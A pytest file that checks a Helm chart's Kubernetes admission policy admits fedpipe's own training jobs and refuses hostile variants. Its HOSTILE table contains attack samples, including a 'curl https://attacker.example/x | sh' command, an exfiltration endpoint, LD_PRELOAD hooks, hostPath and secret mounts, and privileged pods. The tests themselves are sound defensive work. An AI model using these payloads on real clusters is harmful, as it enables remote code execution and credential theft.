"""Issue 43, A16: what the pipeline's ServiceAccount may do with the launcher's Role, and the egress policy's default.

The chart binds the launcher's Role (create, get, delete PyTorchJobs or TrainJobs) to the ServiceAccount every task
of every pipeline in the namespace runs as, so RBAC alone lets any task create any job: a privileged pod, a hostPath
mount, another image. The ValidatingAdmissionPolicy in charts/fedpipe/templates/admission-policy.yaml narrows that to
the jobs fedpipe's launcher makes. These tests render it with `helm template`, validate it against Kubernetes 1.30's
schemas, and evaluate its CEL against (a) the PyTorchJobs and TrainJobs fedpipe's own code builds, from the pipeline
the chart's registration Job compiles (admitted), and (b) hostile variants of them (refused, each by the rule meant
to refuse it).

THIS IS A STAND-IN FOR THE API SERVER'S ADMISSION, NOT THE API SERVER: the CEL is evaluated by cel-python (`celpy`),
not by Kubernetes' cel-go, with the semantics of k8s.io/apiserver's ValidatingAdmissionPolicy plugin
(kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy, and the source it describes, cited
where used):

- which requests a policy sees: `matchConstraints.resourceRules` (group, version, resource or `resource/*` for its
  subresources, operation), then every `matchConditions` expression true (one false: the policy does not apply; one
  that errs: `failurePolicy`);
- `object` is the request's object (null on DELETE), `oldObject` the stored one (null on CREATE), `request` the
  AdmissionRequest (operation, namespace, userInfo.username, ...), `params` absent (no paramKind); both objects are
  declared dynamic and handed over as unstructured maps (staging/src/k8s.io/apiserver/pkg/admission/plugin/cel:
  compile.go `cel.Variable(ObjectVarName, cel.DynType)`, filter.go `objectToResolveVal`), so `has(m.f)` asks whether
  the map has the key and `m.f` of a missing key is an error; cel-python's maps behave the same;
- `variables` are evaluated lazily, when an expression first reads them, and an error in one is an error of the
  expression that reads it (composition.go); the stand-in evaluates them on first read too;
- a validation that is false refuses the request with its message; one that errs counts as `failurePolicy` says
  (Fail: refused); the binding's `validationActions` decide what a refusal does (Deny: the request fails; Warn, Audit:
  it goes through and is reported);
- the object a CREATE carries is the one after the API server's defaulting from the CRD's structural schema and after
  the mutating webhooks (Kueue's sets `suspend`): the stand-in applies the CRD schemas' defaults (tests/deploy/schemas)
  and Kueue's suspend to fedpipe's jobs before it evaluates.

Not modelled: the CEL cost budget, the typed `request` (a map here), matchPolicy Equivalent's conversion of other
versions, and cel-go's type checker (the expressions use only standard CEL: has, all, exists, map, in, size,
matches, startsWith, so both libraries accept them).
"""

from __future__ import annotations

import copy
import functools
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
import yaml
from deploytools import (
    CHART,
    CLUSTER,
    NAMESPACE,
    PYTORCHJOB_SCHEMA,
    RELEASE,
    import_tool,
    only,
    run_tool,
    schema_rejection,
    write_overlay,
)
from kfp_backend import flat_tasks
from trainjobtools import TRAINJOB_SCHEMA

from fedpipe.k8s import launcher
from fedpipe.k8s.phasejob import KUEUE_QUEUE_LABEL, PhaseJob, PodResources, StorageAccess

# A cluster that serves the policy's API (Kubernetes 1.30+); helm template knows no cluster.
POLICY_API = ["--api-versions", "admissionregistration.k8s.io/v1/ValidatingAdmissionPolicy"]
CIDRS = CLUSTER  # the API server address every install gives (the egress NetworkPolicy is on by default)
PHASE = "personalization"
PYTORCHJOB_ON = ["--set", "pytorchJob.enabled=true", "--set", f"pytorchJob.phase={PHASE}", "--set", "pytorchJob.nodes=3", *POLICY_API]
TRAINJOB_ON = [*PYTORCHJOB_ON, "--set", "pytorchJob.api=trainjob"]
ON = {"PyTorchJob": PYTORCHJOB_ON, "TrainJob": TRAINJOB_ON}
PIPELINE_USER = f"system:serviceaccount:{NAMESPACE}:pipeline-runner"
RUN_ID = "superfed-mm-test-0a1b2c3d-job42"


# --- the stand-in ---------------------------------------------------------------------------------------------


@dataclass
class Review:
    """What the policy and its binding did with one request."""

    matched: bool
    allowed: bool
    failures: list[str] = field(default_factory=list)  # the messages of the validations that were false or erred
    failed: list[int] = field(default_factory=list)  # their indices in spec.validations


class AdmissionStandIn:
    """One ValidatingAdmissionPolicy and its binding, as the API server's admission applies them (see the module's
    docstring for what is and is not modelled). The CEL is compiled by cel-python once, here."""

    def __init__(self, policy: dict, binding: dict):
        self.celpy = import_tool("celpy", "cel-python")
        assert binding["spec"]["policyName"] == policy["metadata"]["name"]
        spec = policy["spec"]
        # What the stand-in does not model must not be there.
        assert "paramKind" not in spec and "paramRef" not in binding["spec"] and "matchResources" not in binding["spec"]
        assert not {"namespaceSelector", "objectSelector"} & set(spec["matchConstraints"])
        self.policy, self.binding = policy, binding
        self.rules = spec["matchConstraints"]["resourceRules"]
        self.failure_policy = spec.get("failurePolicy", "Fail")  # the API's default
        self.actions = binding["spec"]["validationActions"]
        self.conditions = [self._compile(c["expression"]) for c in spec.get("matchConditions", [])]
        self.variables = {v["name"]: self._compile(v["expression"]) for v in spec.get("variables", [])}
        self.validations = [(self._compile(v["expression"]), v.get("message") or v["expression"]) for v in spec["validations"]]

    def _compile(self, expression: str):
        env = self.celpy.Environment()
        return env.program(env.compile(expression))

    def _rule_matches(self, group: str, version: str, resource: str, subresource: str, operation: str) -> bool:
        name = f"{resource}/{subresource}" if subresource else resource
        for rule in self.rules:
            resources = rule["resources"]
            if (group in rule["apiGroups"] or "*" in rule["apiGroups"]) and (version in rule["apiVersions"] or "*" in rule["apiVersions"]) \
                    and (operation in rule["operations"] or "*" in rule["operations"]) \
                    and (name in resources or "*" in resources or (subresource and f"{resource}/*" in resources)):
                return True
        return False

    def review(self, operation: str, obj: dict | None = None, old: dict | None = None, *, username: str = PIPELINE_USER,
               namespace: str = NAMESPACE, subresource: str = "") -> Review:
        doc = obj if obj is not None else old
        group, version = doc["apiVersion"].split("/")
        kind = launcher.KINDS[doc["kind"]]
        if not self._rule_matches(group, version, kind.plural, subresource, operation):
            return Review(matched=False, allowed=True)
        request = {
            "operation": operation, "namespace": namespace, "name": doc["metadata"].get("name", ""),
            "userInfo": {"username": username, "groups": ["system:serviceaccounts", f"system:serviceaccounts:{namespace}"]},
            "kind": {"group": group, "version": version, "kind": doc["kind"]},
            "resource": {"group": group, "version": version, "resource": kind.plural}, "subResource": subresource,
            "dryRun": False,
        }  # fmt: skip
        activation = {"object": self.celpy.json_to_cel(obj), "oldObject": self.celpy.json_to_cel(old),
                      "request": self.celpy.json_to_cel(request)}
        activation["variables"] = _LazyVariables(self.celpy, self.variables, activation)
        for condition in self.conditions:
            outcome = self._evaluate(condition, activation)
            if isinstance(outcome, Exception):
                if self.failure_policy == "Fail":
                    return Review(matched=True, allowed=False, failures=[f"match condition error: {outcome}"])
                return Review(matched=False, allowed=True)
            if not outcome:
                return Review(matched=False, allowed=True)
        review = Review(matched=True, allowed=True)
        for index, (program, message) in enumerate(self.validations):
            outcome = self._evaluate(program, activation)
            if isinstance(outcome, Exception):
                if self.failure_policy != "Fail":
                    continue
                message = f"expression {index} resulted in error: {outcome}"
            elif outcome is True:
                continue
            review.failures.append(message)
            review.failed.append(index)
        if review.failures and "Deny" in self.actions:
            review.allowed = False
        return review

    def _evaluate(self, program, activation):
        try:
            value = program.evaluate(activation)
        except Exception as e:  # celpy raises an expression's error (CELEvalError) or its own failure
            return e
        if isinstance(value, Exception):
            return value
        if not isinstance(value, self.celpy.celtypes.BoolType):
            return TypeError(f"the expression gave {value!r}, not a bool")
        return bool(value)


class _LazyVariables:
    """`variables.NAME`: evaluated on first read, then kept (an error too), as the API server's composition does."""

    def __new__(cls, celpy, programs: dict, activation: dict):
        class Lazy(celpy.celtypes.MapType):
            def __getitem__(self, key):
                name = str(key)
                if name not in programs:
                    raise KeyError(key)
                if not dict.__contains__(self, name):
                    try:
                        value = programs[name].evaluate(activation)
                    except celpy.CELEvalError as e:
                        value = e
                    dict.__setitem__(self, celpy.celtypes.StringType(name), value)
                return dict.__getitem__(self, celpy.celtypes.StringType(name))

        return Lazy()


# --- the jobs fedpipe's launcher creates, from the pipeline the chart registers --------------------------------


def _crd_defaults(schema: dict, value):
    """The API server's defaulting of a custom resource from its structural schema: each missing property with a
    `default`, in every object that is there (k8s.io/apiextensions-apiserver pkg/apiserver/schema/defaulting)."""
    if isinstance(value, dict):
        for key, sub in (schema.get("properties") or {}).items():
            if key not in value and "default" in sub:
                value[key] = copy.deepcopy(sub["default"])
            if key in value:
                _crd_defaults(sub, value[key])
        extra = schema.get("additionalProperties")
        if isinstance(extra, dict):
            for key in set(value) - set(schema.get("properties") or {}):
                _crd_defaults(extra, value[key])
    elif isinstance(value, list) and isinstance(schema.get("items"), dict):
        for item in value:
            _crd_defaults(schema["items"], item)
    return value


SCHEMAS = {"PyTorchJob": PYTORCHJOB_SCHEMA, "TrainJob": TRAINJOB_SCHEMA}


@functools.cache
def _schema(kind: str) -> dict:
    return yaml.safe_load(SCHEMAS[kind].read_text())


def as_admitted(job: dict) -> dict:
    """The object validating admission sees for `job`'s create: the CRD's defaults applied, and, for a queued job,
    Kueue's mutating webhook's `suspend: true` (sigs.k8s.io/kueue pkg/controller/jobframework, ApplyDefaultForSuspend)."""
    out = _crd_defaults(_schema(job["kind"]), copy.deepcopy(job))
    if KUEUE_QUEUE_LABEL in out["metadata"].get("labels", {}):
        if out["kind"] == "PyTorchJob":
            out["spec"].setdefault("runPolicy", {})["suspend"] = True
        else:
            out["spec"]["suspend"] = True
    return out


@pytest.fixture(scope="module")
def chart_launcher(helm: str, tmp_path_factory) -> Callable[..., dict]:
    """The job fedpipe's launcher task creates on a cluster the chart was installed on with `values`: the chart's
    registration Job's flags and env compile the pipeline (`fedpipe compile`, as `fedpipe register` does), and the
    launcher task's inputs in it go through what components/bodies.py `launch_phase_job` does with them."""
    from typer.testing import CliRunner

    from fedpipe.cli import app
    from fedpipe.run.config import load_config

    compiled: dict[tuple, dict] = {}

    def inputs(values: tuple[str, ...]) -> dict:
        if values not in compiled:
            docs = yaml.safe_load_all(run_tool([helm, "template", RELEASE, str(CHART), "--namespace", NAMESPACE, *CIDRS, *values]).stdout)
            docs = [d for d in docs if d]
            (container,) = [c for c in only(docs, "Job", "-register")["spec"]["template"]["spec"]["containers"] if c["args"][0] == "register"]
            folder = tmp_path_factory.mktemp("compile")
            config = folder / "config.yaml"
            config.write_text(only(docs, "ConfigMap", "-run-config")["data"]["config.yaml"])
            skip = ("--host=", "--name=", "--namespace=", "--method=", "--config=")
            args = [a for a in container["args"][1:] if not a.startswith(skip)]
            env = {e["name"]: e["value"] for e in container["env"] if e["name"].startswith("FEDPIPE_S3_")}
            out = folder / "pipeline.yaml"
            result = CliRunner().invoke(app, ["compile", "-c", str(config), *args, "-o", str(out)], env=env)
            assert result.exit_code == 0, result.output
            spec = next(yaml.safe_load_all(out.read_text()))
            (task,) = [t for t in flat_tasks(spec).values() if t["componentRef"]["name"] == "comp-launch-phase-job"]
            constants = {k: v["runtimeValue"]["constant"] for k, v in task["inputs"]["parameters"].items() if "runtimeValue" in v}
            compiled[values] = {**constants, "config": config}
        return compiled[values]

    def job(*values: str, resources: dict | None = None) -> dict:
        given = inputs(values)
        cfg = load_config(given["config"], [f"run.id={RUN_ID}"])
        storage = dict(given["storage"], s3_secret=given["s3_secret"])
        storage["s3_secret_keys"] = tuple(storage.get("s3_secret_keys", ("accesskey", "secretkey")))
        return launcher.job_manifest(
            run_id=cfg.run_id(), phase=given["phase"], config_yaml=cfg.to_yaml(), namespace=NAMESPACE, image=given["image"],
            job=PhaseJob.from_dict(given["job"]), resources=PodResources(**(resources or {})), storage=StorageAccess(**storage),
        )

    return job


@pytest.fixture(scope="module")
def admission(helm: str) -> Callable[..., AdmissionStandIn]:
    """The chart's policy and binding rendered with `values`, in the stand-in (compiled once per set of values)."""

    @functools.cache
    def build(*values: str) -> AdmissionStandIn:
        docs = [d for d in yaml.safe_load_all(run_tool([helm, "template", RELEASE, str(CHART), "--namespace", NAMESPACE, *CIDRS, *values]).stdout) if d]
        return AdmissionStandIn(only(docs, "ValidatingAdmissionPolicy"), only(docs, "ValidatingAdmissionPolicyBinding"))

    return build


# --- the chart renders the policy where it can work, and matches what the Role grants ---------------------------


def policy_docs(docs: list[dict]) -> list[dict]:
    return [d for d in docs if d["kind"].startswith("ValidatingAdmissionPolicy")]


def test_the_policy_comes_with_the_role_where_the_cluster_serves_its_api(helm: str, render_chart, validate_k8s):
    assert not policy_docs(render_chart(*POLICY_API)), "no Role (pytorchJob.enabled false), nothing to narrow"
    without_api = ["--set", "pytorchJob.enabled=true"]
    assert not policy_docs(render_chart(*without_api)), "auto: Kubernetes before 1.30 has no admissionregistration.k8s.io/v1 policy"
    for values in (PYTORCHJOB_ON, TRAINJOB_ON, [*without_api, "--set", "pytorchJob.admissionPolicy.enabled=true"]):
        docs = render_chart(*values)
        assert sorted(d["kind"] for d in policy_docs(docs)) == ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]
        validate_k8s(docs)  # kubernetes-validate --strict knows both kinds (admissionregistration.k8s.io/v1, 1.30)
    assert not policy_docs(render_chart(*PYTORCHJOB_ON, "--set", "pytorchJob.admissionPolicy.enabled=false"))
    for api in ("pytorchjob", "trainjob"):
        lint = run_tool([helm, "lint", "--strict", str(CHART), *CIDRS, "--set", "pytorchJob.enabled=true", "--set", f"pytorchJob.api={api}",
                         "--set", "pytorchJob.admissionPolicy.enabled=true"]).stdout
        assert "0 chart(s) failed" in lint and "[WARNING]" not in lint, lint


@pytest.mark.parametrize("kind", ["PyTorchJob", "TrainJob"])
def test_the_policy_matches_the_pipeline_service_account_on_what_its_role_grants(render_chart, kind: str):
    docs = render_chart(*ON[kind])
    policy, binding = only(docs, "ValidatingAdmissionPolicy"), only(docs, "ValidatingAdmissionPolicyBinding")
    role = only(docs, "Role", "-pytorchjob-launcher" if kind == "PyTorchJob" else "-trainjob-launcher")
    job_kind = launcher.KINDS[kind]
    (granted,) = [r for r in role["rules"] if r["apiGroups"] == [job_kind.group]]
    (rule,) = policy["spec"]["matchConstraints"]["resourceRules"]
    assert rule["apiGroups"] == [job_kind.group] and rule["apiVersions"] == [job_kind.version]
    assert rule["resources"] == [job_kind.plural, f"{job_kind.plural}/*"] == [*granted["resources"], f"{job_kind.plural}/*"]
    assert set(rule["operations"]) == {"CREATE", "UPDATE", "DELETE"}  # the verbs that reach admission (get does not)
    (condition,) = policy["spec"]["matchConditions"]
    assert condition["expression"] == f'request.userInfo.username == "{PIPELINE_USER}"'
    assert policy["spec"]["failurePolicy"] == "Fail"
    assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
    assert NAMESPACE in policy["metadata"]["name"], "cluster-scoped: two releases of one name in two namespaces must not clash"
    multi_user = only(render_chart(*ON[kind], "--set", "pytorchJob.pipelineServiceAccount=default-editor"), "ValidatingAdmissionPolicy")
    assert f"system:serviceaccount:{NAMESPACE}:default-editor" in multi_user["spec"]["matchConditions"][0]["expression"]


def test_the_binding_can_warn_before_it_denies(helm: str, admission, chart_launcher, tmp_path):
    warn = ["--set", "pytorchJob.admissionPolicy.validationActions={Warn,Audit}"]
    review = admission(*PYTORCHJOB_ON, *warn).review("CREATE", hostile(chart_launcher(*PYTORCHJOB_ON), "privileged"))
    assert review.allowed and review.failures, "Warn and Audit report a refusal but let the request through"
    assert "validationActions" in schema_rejection(helm, tmp_path, {"pytorchJob": {"admissionPolicy": {"validationActions": ["Deny", "Warn"]}}})
    assert "imageRepositories" in schema_rejection(helm, tmp_path, {"pytorchJob": {"admissionPolicy": {"imageRepositories": ["ghcr.io/x/y:1.0"]}}})


# --- fedpipe's own jobs are admitted --------------------------------------------------------------------------

SHAPES = {
    "defaults": ([], {}),
    "gpus-on-pinned-nodes": (["--set", "pytorchJob.nodes=4", "--set", "pytorchJob.processesPerNode=2", "--set", "pytorchJob.gpusPerProcess=1"],
                             {"node_selector": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"},
                              "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
                              "cpu_request": "8", "memory_limit": "96Gi"}),
    "one-node-queued-no-pushgateway-unsigned": (
        ["--set", "pytorchJob.nodes=1", "--set", "training.kueueQueue=gpu-queue", "--set", "pushgateway.enabled=false",
         "--set", "prometheusScrapeConfig.enabled=false", "--set", "signing.enabled=false"], {}),
    "own-image-and-secret": (["--set", "image.repository=registry.example.com:5000/ml/fedpipe", "--set", "image.tag=1.2.3",
                              "--set", "storage.existingSecret=team-s3", "--set", "storage.accessKeyKey=AWS_ACCESS_KEY_ID",
                              "--set", "storage.secretKeyKey=AWS_SECRET_ACCESS_KEY", "--set", "storage.endpoint=https://s3.example.com"], {}),
}  # fmt: skip


@pytest.mark.parametrize("shape", list(SHAPES))
@pytest.mark.parametrize("kind", ["PyTorchJob", "TrainJob"])
def test_the_jobs_fedpipe_s_launcher_creates_are_admitted(admission, chart_launcher, kind: str, shape: str):
    values, resources = SHAPES[shape]
    values = [*ON[kind], *values]
    job = chart_launcher(*values, resources=resources)
    assert job["kind"] == kind
    policy = admission(*values)
    for seen in (job, as_admitted(job)):
        review = policy.review("CREATE", seen)
        assert review.matched and review.allowed, review.failures
    # The launcher deletes its job when done, or to replace a failed one.
    assert policy.review("DELETE", old=as_admitted(job)).allowed


# --- hostile jobs are refused, each by the rule meant for it --------------------------------------------------


def _containers(job: dict) -> list[dict]:
    if job["kind"] == "TrainJob":
        return [job["spec"]["trainer"]]
    return [r["template"]["spec"]["containers"][0] for r in job["spec"]["pytorchReplicaSpecs"].values()]


def _pod_specs(job: dict) -> list[dict]:
    if job["kind"] == "TrainJob":
        return [o["spec"] for o in job["spec"]["podTemplateOverrides"]]
    return [r["template"]["spec"] for r in job["spec"]["pytorchReplicaSpecs"].values()]


def _pod_metadata(job: dict) -> list[dict]:
    if job["kind"] == "TrainJob":
        return [o["metadata"] for o in job["spec"]["podTemplateOverrides"]]
    return [r["template"]["metadata"] for r in job["spec"]["pytorchReplicaSpecs"].values()]


def _each(parts: Callable[[dict], list[dict]], change: Callable[[dict], None]) -> Callable[[dict], None]:
    return lambda job: [change(part) for part in parts(job)]


def _env(name: str, value: str | None = None, secret: str | None = None, key: str = "key") -> Callable[[dict], None]:
    entry = {"name": name, "value": value} if secret is None else {"name": name, "valueFrom": {"secretKeyRef": {"name": secret, "key": key}}}
    return _each(_containers, lambda c: c["env"].append(entry))


def _replace_env(name: str, entry: dict) -> Callable[[dict], None]:
    return _each(_containers, lambda c: c.__setitem__("env", [entry if e["name"] == name else e for e in c["env"]]))


def _add_volume(volume: dict) -> Callable[[dict], None]:
    def change(job: dict) -> None:
        for spec in _pod_specs(job):
            spec["volumes"].append(volume)
            (spec["containers"][0]).setdefault("volumeMounts", []).append({"name": volume["name"], "mountPath": "/host"})

    return change


def _labels(job: dict) -> dict:
    return job["metadata"]["labels"]


IMAGE = "the job may run only the fedpipe image"
COMMAND = "runs `torchrun ... -m fedpipe.cli train"
ENV = "the job's env is fedpipe's only"
VOLUMES = "may mount only emptyDir and downwardAPI volumes"
POD_LABELS = "the job's pods carry fedpipe's labels"
FEDPIPE_JOB = "may create and delete only fedpipe's phase jobs"
POD = "the job's pods get no API token"
CONTAINER = "the pytorch container is not privileged"
PYTORCHJOB_FIELDS = "the PyTorchJob may set only what fedpipe's launcher sets"
TRAINJOB_FIELDS = "the TrainJob may set only what fedpipe's launcher sets"
OVERRIDE = "the TrainJob's one podTemplateOverride"
RUNTIME = "the TrainJob must run on the ClusterTrainingRuntime torch-distributed"

# name: (what the attacker changes, the words of the rule that refuses it, the kinds it applies to)
BOTH, PYTORCHJOB, TRAINJOB = ("PyTorchJob", "TrainJob"), ("PyTorchJob",), ("TrainJob",)
HOSTILE: dict[str, tuple[Callable[[dict], None], str, tuple[str, ...]]] = {
    # what runs
    "another-image": (_each(_containers, lambda c: c.__setitem__("image", "docker.io/attacker/miner:latest")), IMAGE, BOTH),
    "a-look-alike-repository": (_each(_containers, lambda c: c.__setitem__("image", "ghcr.io/fedpipe/fedpipe-tools:1.0")), IMAGE, BOTH),
    "no-image": (_each(_containers, lambda c: c.pop("image")), IMAGE, TRAINJOB),  # the trainer then runs the runtime's image
    "a-shell": (_each(_containers, lambda c: c.update(command=["sh", "-c"], args=["curl -s https://attacker.example/x | sh"])), COMMAND, BOTH),
    "another-module": (_each(_containers, lambda c: c["args"].__setitem__(6, "http.server")), COMMAND, BOTH),
    "an-extra-argument": (_each(_containers, lambda c: c["args"].append("--run-path=/tmp/evil.py")), COMMAND, BOTH),
    # what it reads
    "another-secret": (_replace_env("AWS_ACCESS_KEY_ID", {"name": "AWS_ACCESS_KEY_ID", "valueFrom": {
        "secretKeyRef": {"name": "kubeflow-admin-credentials", "key": "accesskey"}}}), ENV, BOTH),
    "a-secret-under-a-new-name": (_env("STOLEN", secret="mlpipeline-minio-artifact", key="secretkey"), ENV, BOTH),
    "the-store-elsewhere": (_replace_env("FEDPIPE_S3_ENDPOINT", {"name": "FEDPIPE_S3_ENDPOINT", "value": "https://attacker.example"}), ENV, BOTH),
    "ld-preload": (_env("LD_PRELOAD", "/tmp/hook.so"), ENV, BOTH),
    "model-packages": (_env("FEDPIPE_MODEL_PACKAGES", "subprocess"), ENV, BOTH),
    "env-from-a-secret": (_each(_containers, lambda c: c.__setitem__("envFrom", [{"secretRef": {"name": "kubeflow-admin"}}])), CONTAINER, PYTORCHJOB),
    "a-field-ref": (_replace_env("HOME", {"name": "HOME", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}}), ENV, BOTH),
    # the node and the namespace's other workloads
    "privileged": (_each(_containers, lambda c: c["securityContext"].__setitem__("privileged", True)), CONTAINER, PYTORCHJOB),
    "privilege-escalation": (_each(_containers, lambda c: c["securityContext"].__setitem__("allowPrivilegeEscalation", True)), CONTAINER, PYTORCHJOB),
    "an-added-capability": (_each(_containers, lambda c: c["securityContext"]["capabilities"].__setitem__("add", ["SYS_ADMIN"])), CONTAINER, PYTORCHJOB),
    "a-root-container": (_each(_containers, lambda c: c["securityContext"].update(runAsUser=0, runAsNonRoot=False)), CONTAINER, PYTORCHJOB),
    "seccomp-unconfined": (_each(_containers, lambda c: c["securityContext"].__setitem__("seccompProfile", {"type": "Unconfined"})), CONTAINER, PYTORCHJOB),
    "a-writable-root": (_each(_containers, lambda c: c["securityContext"].__setitem__("readOnlyRootFilesystem", False)), CONTAINER, PYTORCHJOB),
    "a-host-port": (_each(_containers, lambda c: c["ports"][0].__setitem__("hostPort", 23456)), CONTAINER, PYTORCHJOB),
    "mount-propagation": (_each(_containers, lambda c: c["volumeMounts"][0].__setitem__("mountPropagation", "Bidirectional")), CONTAINER, PYTORCHJOB),
    "a-root-pod": (_each(_pod_specs, lambda p: p["securityContext"].update(runAsUser=0)), POD, PYTORCHJOB),
    "host-path": (_add_volume({"name": "host", "hostPath": {"path": "/"}}), VOLUMES, BOTH),
    "a-secret-volume": (_add_volume({"name": "admin", "secret": {"secretName": "kubeflow-admin"}}), VOLUMES, BOTH),
    "a-projected-token": (_add_volume({"name": "token", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}), VOLUMES, BOTH),
    "host-network": (_each(_pod_specs, lambda p: p.__setitem__("hostNetwork", True)), POD, PYTORCHJOB),
    "host-pid": (_each(_pod_specs, lambda p: p.__setitem__("hostPID", True)), POD, PYTORCHJOB),
    "another-service-account": (_each(_pod_specs, lambda p: p.__setitem__("serviceAccountName", "pipeline-runner")), POD, PYTORCHJOB),
    "the-api-token": (_each(_pod_specs, lambda p: p.__setitem__("automountServiceAccountToken", True)), POD, PYTORCHJOB),
    "a-node-of-its-choice": (_each(_pod_specs, lambda p: p.__setitem__("nodeName", "control-plane-0")), POD, PYTORCHJOB),
    "a-priority-class": (_each(_pod_specs, lambda p: p.__setitem__("priorityClassName", "system-cluster-critical")), POD, PYTORCHJOB),
    "a-sidecar": (_each(_pod_specs, lambda p: p["containers"].append({"name": "sidecar", "image": "docker.io/attacker/proxy"})), POD, PYTORCHJOB),
    "an-init-container": (_each(_pod_specs, lambda p: p.__setitem__("initContainers", [{"name": "init", "image": "busybox"}])), POD, PYTORCHJOB),
    # the NetworkPolicy that confines the pods
    "unlabelled-pods": (_each(_pod_metadata, lambda m: m["labels"].pop("app.kubernetes.io/component")), POD_LABELS, BOTH),
    "another-policy-s-label": (_each(_pod_metadata, lambda m: m["labels"].__setitem__("egress", "internet")), POD_LABELS, BOTH),
    "apparmor-unconfined": (_each(_pod_metadata, lambda m: m["annotations"].__setitem__(
        "container.apparmor.security.beta.kubernetes.io/pytorch", "unconfined")), POD_LABELS, BOTH),
    # a job that is not the launcher's
    "not-the-launcher-s": (lambda job: _labels(job).pop("app.kubernetes.io/managed-by"), FEDPIPE_JOB, BOTH),
    "another-name": (lambda job: job["metadata"].__setitem__("name", "team-b-training"), FEDPIPE_JOB, BOTH),
    # fields fedpipe never sets
    "an-elastic-policy": (lambda job: job["spec"].__setitem__("elasticPolicy", {"rdzvBackend": "c10d", "maxReplicas": 64}), PYTORCHJOB_FIELDS, PYTORCHJOB),
    "a-scheduling-priority": (lambda job: job["spec"]["runPolicy"].__setitem__("schedulingPolicy", {"priorityClass": "system-cluster-critical"}),
                              PYTORCHJOB_FIELDS, PYTORCHJOB),
    "another-replica-type": (lambda job: job["spec"]["pytorchReplicaSpecs"].__setitem__(
        "Launcher", copy.deepcopy(job["spec"]["pytorchReplicaSpecs"]["Master"])), PYTORCHJOB_FIELDS, PYTORCHJOB),
    "an-initializer": (lambda job: job["spec"].__setitem__("initializer", {"dataset": {"storageUri": "hf://attacker/data"}}), TRAINJOB_FIELDS, TRAINJOB),
    "jobset-labels": (lambda job: job["spec"].__setitem__("labels", {"egress": "internet"}), TRAINJOB_FIELDS, TRAINJOB),
    "another-runtime": (lambda job: job["spec"]["runtimeRef"].__setitem__("name", "privileged-runtime"), RUNTIME, TRAINJOB),
    "a-namespaced-runtime": (lambda job: job["spec"]["runtimeRef"].__setitem__("kind", "TrainingRuntime"), RUNTIME, TRAINJOB),
    "an-override-service-account": (lambda job: job["spec"]["podTemplateOverrides"][0]["spec"].__setitem__("serviceAccountName", "pipeline-runner"),
                                    OVERRIDE, TRAINJOB),
    "an-override-init-container": (lambda job: job["spec"]["podTemplateOverrides"][0]["spec"].__setitem__(
        "initContainers", [{"name": "init", "env": [{"name": "X", "value": "y"}]}]), OVERRIDE, TRAINJOB),
    "an-override-of-another-job": (lambda job: job["spec"]["podTemplateOverrides"][0]["targetJobs"].__setitem__(0, {"name": "dataset-initializer"}),
                                   OVERRIDE, TRAINJOB),
    "an-override-env": (lambda job: job["spec"]["podTemplateOverrides"][0]["spec"]["containers"][0].__setitem__(
        "env", [{"name": "LD_PRELOAD", "value": "/tmp/hook.so"}]), OVERRIDE, TRAINJOB),
    "no-override": (lambda job: job["spec"].__setitem__("podTemplateOverrides", []), OVERRIDE, TRAINJOB),
}  # fmt: skip


def hostile(job: dict, name: str) -> dict:
    out = copy.deepcopy(job)
    HOSTILE[name][0](out)
    return out


CASES = [(kind, name) for name, (_, _, kinds) in HOSTILE.items() for kind in kinds]


@pytest.mark.parametrize("kind, name", CASES, ids=[f"{kind}-{name}" for kind, name in CASES])
def test_a_hostile_job_is_refused_by_its_rule(admission, chart_launcher, kind: str, name: str):
    job = chart_launcher(*ON[kind])
    review = admission(*ON[kind]).review("CREATE", as_admitted(hostile(job, name)))
    assert review.matched and not review.allowed, f"{kind} {name} was admitted"
    rule = HOSTILE[name][1]
    assert any(rule in failure for failure in review.failures), review.failures


@pytest.mark.parametrize("kind", ["PyTorchJob", "TrainJob"])
def test_every_rule_refuses_something_and_nothing_errs(admission, chart_launcher, kind: str):
    """Each validation of the policy is the one that refuses some hostile job (none is dead), and every refusal is a
    false rule, not an expression that erred (an error refuses too, with failurePolicy Fail, but says nothing useful)."""
    policy, job = admission(*ON[kind]), chart_launcher(*ON[kind])
    refused_by: set[int] = set()
    for name, (_, _, kinds) in HOSTILE.items():
        if kind in kinds:
            review = policy.review("CREATE", as_admitted(hostile(job, name)))
            assert not [f for f in review.failures if "resulted in error" in f], (name, review.failures)
            refused_by |= set(review.failed)
    operations = {policy.review("UPDATE", job, job).failed[0], policy.review("CREATE", job, namespace="kube-system").failed[0]}
    assert refused_by | operations == set(range(len(policy.validations)))


def test_a_queued_release_s_jobs_stay_in_their_queue(admission, chart_launcher):
    """With training.kueueQueue, a job without the queue label (or with another queue) would skip Kueue's quota."""
    queued = [*PYTORCHJOB_ON, "--set", "training.kueueQueue=gpu-queue"]
    policy, job = admission(*queued), chart_launcher(*queued)
    assert policy.review("CREATE", as_admitted(job)).allowed
    for label in (None, "cpu-queue"):
        other = copy.deepcopy(job)
        if label is None:
            _labels(other).pop(KUEUE_QUEUE_LABEL)
        else:
            _labels(other)[KUEUE_QUEUE_LABEL] = label
        review = policy.review("CREATE", other)
        assert not review.allowed and any("LocalQueue gpu-queue" in f for f in review.failures), review.failures


@pytest.mark.parametrize("kind", ["PyTorchJob", "TrainJob"])
def test_deletes_only_fedpipe_s_jobs_in_its_namespace_and_never_updates(admission, chart_launcher, kind: str):
    policy, job = admission(*ON[kind]), as_admitted(chart_launcher(*ON[kind]))
    assert policy.review("DELETE", old=job).allowed
    theirs = copy.deepcopy(job)
    theirs["metadata"].update(name="team-b-training", labels={"team": "b"})
    assert not policy.review("DELETE", old=theirs).allowed, "another team's job"
    assert not policy.review("DELETE", old=job, namespace="team-b").allowed, "another namespace"
    unsuspended = copy.deepcopy(job)
    (unsuspended["spec"]["runPolicy"] if kind == "PyTorchJob" else unsuspended["spec"])["suspend"] = False
    for review in (policy.review("UPDATE", unsuspended, job), policy.review("UPDATE", job, job, subresource="status")):
        assert review.matched and not review.allowed and any("never update" in f for f in review.failures), review.failures
    elsewhere = policy.review("CREATE", job, namespace="kube-system")
    assert not elsewhere.allowed and any("only in its own namespace" in f for f in elsewhere.failures)


